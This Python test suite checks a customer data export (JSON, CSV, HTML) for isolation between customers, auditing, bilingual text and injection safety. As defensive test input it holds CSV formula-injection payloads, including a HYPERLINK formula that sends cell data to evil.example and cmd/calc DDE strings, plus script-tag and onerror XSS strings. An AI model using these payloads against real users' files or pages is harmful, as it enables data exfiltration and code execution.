"""The access and portability export, on both databases: one customer's data and nobody
else's, every value that was collected, CSV cells a spreadsheet cannot run, an HTML page that
escapes what it shows, two languages, and an export that is itself audited."""

from __future__ import annotations

import csv
import io
import json
import uuid
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from confiance import clock
from confiance.actors import Actor, ScopeNotGranted
from confiance.audit.models import AuditEntry
from confiance.consent.rules import Kind, State
from confiance.consent.service import Change, ConsentContext
from confiance.demo.generator import CustomerFactory
from confiance.manifest import service as manifest_service
from confiance.manifest.schemas import LegalBasis
from confiance.rights.export import (
    ExportArchive,
    ExportFormatNotSupported,
    LanguageNotSupported,
    build_export,
)
from confiance.rights.export_csv import DANGEROUS_PREFIXES, csv_bytes, safe_cell
from confiance.rights.export_text import CATALOG
from confiance.rights.models import RightsRequest
from confiance.runtime import Runtime
from confiance.vault.errors import CustomerNotFound

OPERATOR = Actor.operator("export-test")
RIGHTS = Actor.system("rights")
ALL_PURPOSES = [
    "order_fulfilment",
    "customer_support",
    "invoicing",
    "loyalty_programme",
    "analytics",
    "fraud_prevention",
]


@pytest.fixture
def fixed_clock() -> Iterator[datetime]:
    moment = datetime(2026, 3, 14, 9, 30, tzinfo=UTC)
    clock.set_clock(lambda: moment)
    yield moment
    clock.set_clock(None)


@dataclass
class Subject:
    id: uuid.UUID
    values: dict[str, Any]
    reference: str
    refusal: str


def _collect(runtime: Runtime, values: dict[str, Any]) -> uuid.UUID:
    with runtime.db.transaction() as session:
        return runtime.vault.collect(
            session, actor=OPERATOR, purposes=ALL_PURPOSES, values=values
        ).id


def _decide(runtime: Runtime, customer: uuid.UUID, **states: str) -> None:
    with runtime.db.transaction() as session:
        runtime.consent.record(
            session,
            customer_id=customer,
            changes=[Change(target, State(state)) for target, state in states.items()],
            context=ConsentContext(channel="privacy_center", method="form", language="fr"),
            actor=OPERATOR,
        )


def _request(runtime: Runtime, customer: uuid.UUID | None, reference: str, refusal: str) -> None:
    now = clock.now()
    with runtime.db.transaction() as session:
        session.add(
            RightsRequest(
                id=uuid.uuid4(),
                reference=reference,
                kind="access",
                jurisdiction="gdpr",
                status="refused",
                channel="privacy_center",
                language="fr",
                customer_pid=None if customer is None else str(customer),
                received_at=now - timedelta(days=40),
                due_at=now - timedelta(days=10),
                closed_at=now - timedelta(days=12),
                refusal_reason=refusal,
            )
        )


def _export(runtime: Runtime, customer: uuid.UUID, **options: Any) -> ExportArchive:
    with runtime.db.transaction() as session:
        return build_export(
            session,
            runtime=runtime,
            actor=RIGHTS,
            customer_id=customer,
            language=options.pop("language", "fr"),
            **options,
        )


def _members(archive: ExportArchive) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(archive.content)) as zf:
        return {name: zf.read(name).decode("utf-8-sig") for name in zf.namelist()}


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _texts(value: Any) -> Iterator[str]:
    """Every text held in a JSON value."""
    if isinstance(value, dict):
        for item in value.values():
            yield from _texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from _texts(item)
    elif isinstance(value, str):
        yield value


@pytest.fixture
def twins(runtime: Runtime) -> tuple[Subject, Subject]:
    """Two customers with the same first and last name, and everything else different:
    values, consent decisions, accesses, requests."""
    factory = CustomerFactory(seed=31)
    a_values, b_values = factory.customer(), factory.customer()
    for values, tag in ((a_values, "A"), (b_values, "B")):
        values["first_name"], values["last_name"] = "Camille", "Martin"
        for n, order in enumerate(values["orders"]):
            order["order_id"] = f"CMD-{tag}{n:05d}"
        values["orders"].append({"order_id": f"CMD-{tag}99999", "date": "2025-01-02", "items": 1})
    a_id, b_id = _collect(runtime, a_values), _collect(runtime, b_values)

    _decide(runtime, a_id, email_marketing="given")
    _decide(runtime, a_id, email_marketing="withdrawn")
    _decide(runtime, b_id, personalised_offers="given", advertising_partner_sharing="refused")

    with runtime.db.transaction() as session:
        runtime.vault.read(session, actor=OPERATOR, purpose="order_fulfilment", customer_id=a_id)
        runtime.vault.find(
            session,
            actor=OPERATOR,
            purpose="customer_support",
            field="email",
            value=a_values["email"],
        )
        runtime.vault.read(session, actor=OPERATOR, purpose="customer_support", customer_id=b_id)
        runtime.vault.rectify(
            session,
            actor=OPERATOR,
            purpose="order_fulfilment",
            customer_id=b_id,
            values={"city": "Villeneuve-B"},
        )
    b_values["city"] = "Villeneuve-B"

    _request(runtime, a_id, "REQ-AAAA-1111", "Demande en double de Camille A")
    _request(runtime, b_id, "REQ-BBBB-2222", "Identité non confirmée pour Camille B")
    _request(runtime, None, "REQ-NONE-3333", "Jamais rattachée à un client")
    return (
        Subject(a_id, a_values, "REQ-AAAA-1111", "Demande en double de Camille A"),
        Subject(b_id, b_values, "REQ-BBBB-2222", "Identité non confirmée pour Camille B"),
    )


# -- one customer, all of them ----------------------------------------------------------------


def test_an_export_holds_one_customer_of_two_with_the_same_name(
    runtime: Runtime, twins: tuple[Subject, Subject]
) -> None:
    a, b = twins
    archive = _export(runtime, a.id)
    members = _members(archive)
    everything = "\n".join(members.values())

    # Nothing of B: no value that A does not share, no id, no receipt, no request.
    with runtime.db.transaction() as session:
        b_receipts = [
            r for r, _ in runtime.consent.receipts_of(session, customer_id=b.id, actor=RIGHTS)
        ]
        a_receipts = [
            r for r, _ in runtime.consent.receipts_of(session, customer_id=a.id, actor=RIGHTS)
        ]
    doc = json.loads(members["data.json"])
    cells = {
        cell.removeprefix("'")
        for name, text in members.items()
        if name.endswith(".csv")
        for row in _csv(text)
        for cell in row
    }
    leaves = set(_texts(doc)) | cells
    b_only = set(_texts(b.values)) - set(_texts(a.values))
    b_markers = {str(b.id), b.reference, b.refusal, "REQ-NONE-3333", *b_receipts}
    assert len(b_only) > 10
    assert sorted((b_only | b_markers) & leaves) == []
    # And nowhere in any file, the page included, for what identifies B.
    distinctive = {b.values[f] for f in ("email", "phone", "street_address", "payment_token")}
    distinctive |= {o["order_id"] for o in b.values["orders"]} | b_markers
    assert sorted(s for s in distinctive if s in everything) == []

    # All of A, as collected.
    assert doc["customer"]["id"] == str(a.id)
    assert {p["field"]: p["value"] for p in doc["profile"]} == a.values
    assert [r["id"] for r in doc["consent"]["receipts"]] == a_receipts
    assert len(a_receipts) == 2
    assert [(e["target"], e["state"]) for e in doc["consent"]["history"]] == [
        ("email_marketing", "given"),
        ("email_marketing", "withdrawn"),
    ]
    assert [r["reference"] for r in doc["requests"]] == [a.reference]
    assert doc["requests"][0]["refusal_reason"] == a.refusal
    assert sorted(e["action"] for e in doc["access_log"]) == sorted(
        [
            "vault.collect",
            "consent.record",
            "consent.record",
            "vault.read",
            "vault.lookup",
            "vault.subject_read",
        ]
    )

    # The CSV tables say the same.
    profile = {row[0]: row for row in _csv(members["profile.csv"])[1:]}
    assert set(profile) == set(a.values)
    assert profile["email"][3] == a.values["email"]
    orders = _csv(members["lists/orders.csv"])
    ids = [row[orders[0].index("order_id")] for row in orders[1:]]
    assert ids == [o["order_id"] for o in a.values["orders"]]
    history = _csv(members["consent_history.csv"])
    assert [row[history[0].index("receipt_id")] for row in history[1:]] == a_receipts
    requests = _csv(members["requests.csv"])
    assert [row[0] for row in requests[1:]] == [a.reference]
    assert len(_csv(members["access_log.csv"])) == 1 + len(doc["access_log"])

    # The summary names A's values too.
    assert a.values["email"] in members["summary.html"]
    assert a.values["orders"][-1]["order_id"] in members["summary.html"]
    assert archive.counts["items.orders"] == len(a.values["orders"])
    assert archive.counts["access_log"] == 6


def test_the_member_list_and_order(runtime: Runtime, twins: tuple[Subject, Subject]) -> None:
    a, _ = twins
    archive = _export(runtime, a.id)
    with runtime.db.transaction() as session:
        receipts = runtime.consent.receipts_of(session, customer_id=a.id, actor=RIGHTS)
    lists = [
        f"lists/{name}.csv"
        for name in ("orders", "browsing_events", "support_tickets")
        if a.values[name]
    ]
    expected = [
        "summary.html",
        "data.json",
        "profile.csv",
        *lists,
        "consent_state.csv",
        "consent_history.csv",
        "access_log.csv",
        "requests.csv",
        *(f"receipts/{rid}.jws" for rid, _ in receipts),
    ]
    with zipfile.ZipFile(io.BytesIO(archive.content)) as zf:
        assert zf.namelist() == expected
        assert zf.testzip() is None
        jws = zf.read(expected[-1]).decode()
    assert list(archive.members) == expected
    assert jws.count(".") == 2  # a compact JWS: header.payload.signature
    assert archive.filename.endswith(".zip") and str(a.id) in archive.filename


def test_only_the_formats_asked_for(runtime: Runtime, twins: tuple[Subject, Subject]) -> None:
    a, _ = twins
    names = set(_members(_export(runtime, a.id, formats=["csv"])))
    assert "profile.csv" in names
    assert not {"data.json", "summary.html"} & names
    assert any(n.startswith("receipts/") for n in names)
    only_html = set(_members(_export(runtime, a.id, formats=["html"])))
    assert {n for n in only_html if not n.startswith("receipts/")} == {"summary.html"}


def test_json_round_trip_and_metadata(runtime: Runtime, twins: tuple[Subject, Subject]) -> None:
    a, _ = twins
    archive = _export(runtime, a.id, language="en")
    doc = json.loads(_members(archive)["data.json"])
    assert json.loads(json.dumps(doc)) == doc
    with runtime.db.transaction() as session:
        loaded = manifest_service.current(session)
    manifest = loaded.manifest
    assert doc["manifest"] == {"version": loaded.seq, "sha256": loaded.sha256}
    assert doc["controller"]["dpo"]["email"] == manifest.controller.dpo.email
    assert datetime.fromisoformat(doc["generated_at"]) == archive.generated_at
    email = next(p for p in doc["profile"] if p["field"] == "email")
    assert email["category"] == manifest.fields_by_name["email"].category
    assert email["reason"] == manifest.fields_by_name["email"].reason.en
    assert {u["key"] for u in email["purposes"]} == set(manifest.purposes_using("email"))
    fulfilment = next(u for u in email["purposes"] if u["key"] == "order_fulfilment")
    assert fulfilment["legal_basis"] == "contract"
    assert fulfilment["recipients"] == [
        r.name for r in manifest.purposes_by_key["order_fulfilment"].recipients
    ]
    assert fulfilment["retention"] == "5 years after the end of the contract, then deleted"
    marketing = next(s for s in doc["consent"]["states"] if s["target"] == "email_marketing")
    assert (marketing["state"], marketing["allowed"]) == ("withdrawn", False)
    assert archive.sha256 == __import__("hashlib").sha256(archive.content).hexdigest()


def test_the_same_data_at_the_same_time_gives_the_same_bytes(
    runtime: Runtime, twins: tuple[Subject, Subject], fixed_clock: datetime
) -> None:
    a, _ = twins
    digests = []
    for _ in range(2):
        session = runtime.db.sessions()
        try:
            archive = build_export(
                session, runtime=runtime, actor=RIGHTS, customer_id=a.id, language="fr"
            )
        finally:
            session.rollback()  # the export's audit entry goes too, so the data is the same
            session.close()
        digests.append(archive.sha256)
        with zipfile.ZipFile(io.BytesIO(archive.content)) as zf:
            assert {i.date_time for i in zf.infolist()} == {fixed_clock.timetuple()[:6]}
    assert digests[0] == digests[1]


# -- audited ----------------------------------------------------------------------------------


def test_the_export_is_audited(runtime: Runtime, twins: tuple[Subject, Subject]) -> None:
    a, _ = twins
    archive = _export(runtime, a.id, reason="rights.portability")
    with runtime.db.transaction() as session:
        entries = session.execute(
            select(
                AuditEntry.action, AuditEntry.actor, AuditEntry.purpose, AuditEntry.fields
            ).where(AuditEntry.customer_pid == str(a.id), AuditEntry.action == "vault.subject_read")
        ).all()
    assert [(e.action, e.actor, e.purpose) for e in entries] == [
        ("vault.subject_read", RIGHTS.label, "rights.portability")
    ]
    assert entries[0].fields.split(",") == sorted(a.values)
    doc = json.loads(_members(archive)["data.json"])
    assert doc["access_log"][-1]["action"] == "vault.subject_read"
    assert doc["reason"] == "rights.portability"


def test_refusals_come_before_any_value_is_read(
    runtime: Runtime, twins: tuple[Subject, Subject]
) -> None:
    a, _ = twins
    with pytest.raises(CustomerNotFound):
        _export(runtime, uuid.uuid4())
    with pytest.raises(LanguageNotSupported) as wrong_language:
        _export(runtime, a.id, language="de")
    assert wrong_language.value.fields["supported"] == ["fr", "en"]
    with pytest.raises(ExportFormatNotSupported):
        _export(runtime, a.id, formats=[])
    with pytest.raises(ExportFormatNotSupported):
        _export(runtime, a.id, formats=["xlsx"])
    no_scope = Actor("apikey", "k1", scopes=frozenset({"audiences"}))
    with pytest.raises(ScopeNotGranted), runtime.db.transaction() as session:
        build_export(session, runtime=runtime, actor=no_scope, customer_id=a.id, language="fr")
    with runtime.db.transaction() as session:
        reads = session.execute(
            select(AuditEntry.seq).where(AuditEntry.action == "vault.subject_read")
        ).all()
    assert reads == []
    # Region subtags are the language they qualify.
    assert _export(runtime, a.id, language="en-GB").counts["fields"] == len(a.values)


# -- CSV cells a spreadsheet will not run -----------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"clic")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"clic")',
        ),
        ("+33612345678", "'+33612345678"),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-12.50", "'-12.50"),
        ("Martin", "Martin"),
        ("a=b", "a=b"),
        ("'=already quoted", "'=already quoted"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (False, "false"),
        (42, "42"),
        (-5, "-5"),
        (213.34, "213.34"),
        ([{"page": "=1+1"}], '[{"page":"=1+1"}]'),
    ],
)
def test_safe_cell(value: Any, cell: str) -> None:
    assert safe_cell(value) == cell


@given(st.text())
def test_no_text_cell_starts_like_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(DANGEROUS_PREFIXES)
    # Nothing is lost: the original is the cell, or the cell without the quote added.
    assert cell == text or (cell == "'" + text and text.startswith(DANGEROUS_PREFIXES))


@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=5))
def test_csv_files_read_back_as_the_safe_cells(rows: list[list[str]]) -> None:
    data = csv_bytes(("a", "b", "c"), rows)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [["a", "b", "c"], *([safe_cell(c) for c in row] for row in rows)]


def test_values_that_look_like_formulas_are_neutralised_in_every_csv(runtime: Runtime) -> None:
    values = CustomerFactory(seed=5).customer()
    values.update(
        first_name='=HYPERLINK("http://evil.example","x")',
        last_name="@SUM(A1:A9)",
        street_address="-2+3+cmd|' /C calc'!A0",
        phone="+33612345678",
        orders=[{"order_id": "=1+1", "date": "2025-01-02", "note": "+33 6 00"}],
        support_tickets=[{"opened": "2025-01-02", "topic": "@risky", "status": "ouvert"}],
    )
    customer = _collect(runtime, values)
    members = _members(_export(runtime, customer))
    sheets = [name for name in members if name.endswith(".csv")]
    assert "lists/orders.csv" in sheets and "lists/support_tickets.csv" in sheets
    for name in sheets:
        for row in _csv(members[name]):
            for cell in row:
                assert not cell.startswith(DANGEROUS_PREFIXES), (name, cell)
    profile = {row[0]: row[3] for row in _csv(members["profile.csv"])[1:]}
    for field in ("first_name", "last_name", "street_address", "phone"):
        assert profile[field] == "'" + values[field]
    orders = _csv(members["lists/orders.csv"])
    assert orders[1][orders[0].index("order_id")] == "'=1+1"
    assert orders[1][orders[0].index("note")] == "'+33 6 00"
    # The JSON document keeps the values exactly as they are.
    doc = json.loads(members["data.json"])
    assert {p["field"]: p["value"] for p in doc["profile"]}["phone"] == "+33612345678"


# -- the readable page ------------------------------------------------------------------------


def test_the_page_escapes_what_it_shows(runtime: Runtime) -> None:
    values = CustomerFactory(seed=6).customer()
    values.update(
        first_name="<script>alert('x')</script>",
        last_name='"><img src=x onerror=alert(1)>',
        orders=[{"order_id": "<b>CMD-1</b>", "date": "2025-01-02"}],
    )
    customer = _collect(runtime, values)
    page = _members(_export(runtime, customer))["summary.html"]
    assert "<script" not in page
    assert "<img" not in page and "<b>" not in page
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in page
    assert "&lt;b&gt;CMD-1&lt;/b&gt;" in page
    # Nothing to load from elsewhere, nothing to run.
    assert "src=" not in page.replace("src=x", "") and "href=" not in page
    assert "default-src 'none'" in page


def test_the_page_speaks_the_customers_language(
    runtime: Runtime, twins: tuple[Subject, Subject], fixed_clock: datetime
) -> None:
    a, _ = twins
    with runtime.db.transaction() as session:
        manifest = manifest_service.current(session).manifest
    french = _members(_export(runtime, a.id, language="fr"))["summary.html"]
    english = _members(_export(runtime, a.id, language="en"))["summary.html"]

    assert '<html lang="fr">' in french and '<html lang="en">' in english
    assert "Ce que nous détenons sur vous" in french
    assert "Qui a consulté vos données, et pourquoi" in french
    assert "What we hold about you" in english
    assert "Who accessed your data, and why" in english
    assert "What we hold about you" not in french and "Ce que nous détenons" not in english
    # Dates as each language writes them (the clock is set to 14 March 2026).
    assert "14 mars 2026" in french and "March 14, 2026" in english
    # The manifest's own texts, in the same language.
    reason = manifest.fields_by_name["email"].reason
    assert reason.fr in french.replace("&#39;", "'") and reason.en not in french
    assert reason.en in english.replace("&#39;", "'")
    assert "5 ans après la fin du contrat, puis supprimées" in french
    assert "5 years after the end of the contract, then deleted" in english
    assert "États-Unis" in french and "United States" in english
    # Where there is no choice to make, the page says so rather than "no choice made".
    assert "no choice to make: our contract with you" in english
    assert "no choice made, so no consent" in english  # personalised_offers, never decided


def test_both_languages_have_the_same_texts() -> None:
    assert set(CATALOG["fr"]) == set(CATALOG["en"])
    for language, texts in CATALOG.items():
        assert all(t.strip() for t in texts.values()), language
    # Every consent state, decision kind and legal basis has its words.
    needed = {f"state.{s.value}" for s in State} | {f"state.none.{k.value}" for k in Kind}
    needed |= {f"basis.{b.value}" for b in LegalBasis}
    assert needed <= set(CATALOG["fr"])
